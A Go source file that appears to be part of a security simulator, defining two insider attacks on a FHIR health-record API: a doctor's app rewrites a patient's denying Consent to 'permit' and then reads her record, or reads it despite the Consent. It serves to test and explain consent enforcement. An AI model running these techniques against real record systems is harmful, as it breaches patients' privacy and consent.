package attacker

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

const beyondConsent = "FAPI 2.0 says who holds a token, not what a patient has said about who may read her record: \"sufficient authorization\" (SP 5.3.4-4) is " +
	"for the API to define. An API that follows her Consents, and lets nobody write them whom they are about, stops this."

var shutOut = Scene{Blocked: true, OwnScope: "user/Consent.u"}

var _ = register("F-28", Technique{
	Variant: "rewrite",
	Title:   "Whom a patient has shut out rewrites what shuts him out",
	Story: "The thief is a doctor at the hospital where a patient was treated. She has closed her record to him, by a Consent that names him. His app may write " +
		"Consents, as apps at a front desk may. He fetches hers, turns what it denies into what it permits, stores it, and opens her record.",
	Reads:  []string{"FHIR R4 Consent", "OWASP API1:2023"},
	Has:    []event.Asset{event.OwnClient},
	Scene:  shutOut,
	Beyond: beyondConsent,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := consentsToken(ctx, g)
		if err != nil {
			return err
		}
		consent, id, err := a.consentOf(ctx, g.Target().Blocked, t)
		if err != nil {
			return err
		}
		consent["provision"] = map[string]any{"provision": []map[string]any{{"type": "permit"}}}
		body, err := json.Marshal(consent)
		if err != nil {
			return err
		}
		ans, err := a.write(ctx, http.MethodPut, g.Target().FHIRBase+"/Consent/"+id, body, t)
		if err != nil {
			return err
		}
		if !ans.ok() {
			return ErrStopped
		}
		_, err = a.read(ctx, record(g, g.Target().Blocked), t)
		return err
	},
})

var _ = register("F-28/read-on", Technique{
	Variant: "read-on",
	Title:   "A patient has said no, and nobody asks her",
	Story: "The thief is a doctor at the hospital where a patient was treated. She has closed her record to him, and it says so in her record: a form that was " +
		"filled in and filed. He opens the record as on every other day.",
	Reads:    []string{"FHIR R4 Consent", "Pasientjournalloven s17"},
	Has:      []event.Asset{event.OwnClient},
	Scene:    shutOut,
	Beyond:   beyondConsent,
	Evidence: "A record opened by somebody whom one of its Consents names: nothing in the log of accesses says so by itself, whoever reviews it has the Consents beside it.",
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.read(ctx, record(g, g.Target().Blocked), t)
		return err
	},
})

// consentsToken is the thief's own, for reading and for writing Consents.
func consentsToken(ctx context.Context, g Ground) (*app, fapi.TokenResponse, error) {
	a, err := ownApp(ctx, g)
	if err != nil {
		return nil, fapi.TokenResponse{}, err
	}
	t, err := a.signIn(ctx, "openid user/*.rs user/Consent.u", g.Target().FHIRBase)
	return a, t, err
}

// consentOf fetches the Consent of a patient. It returns ErrStopped if he is shown none.
func (a *app) consentOf(ctx context.Context, patient string, t fapi.TokenResponse) (consent map[string]any, id string, err error) {
	ans, err := a.read(ctx, a.g.Target().FHIRBase+"/Consent?patient="+patient, t)
	if err != nil {
		return nil, "", err
	}
	var found struct {
		Entry []struct {
			Resource map[string]any `json:"resource"`
		} `json:"entry"`
	}
	if !ans.ok() {
		return nil, "", ErrStopped
	}
	if err := json.Unmarshal(ans.body, &found); err != nil {
		return nil, "", fmt.Errorf("expected Consents, got %q: %w", ans.body, err)
	}
	if len(found.Entry) == 0 {
		return nil, "", ErrStopped
	}
	id, _ = found.Entry[0].Resource["id"].(string)
	return found.Entry[0].Resource, id, nil
}
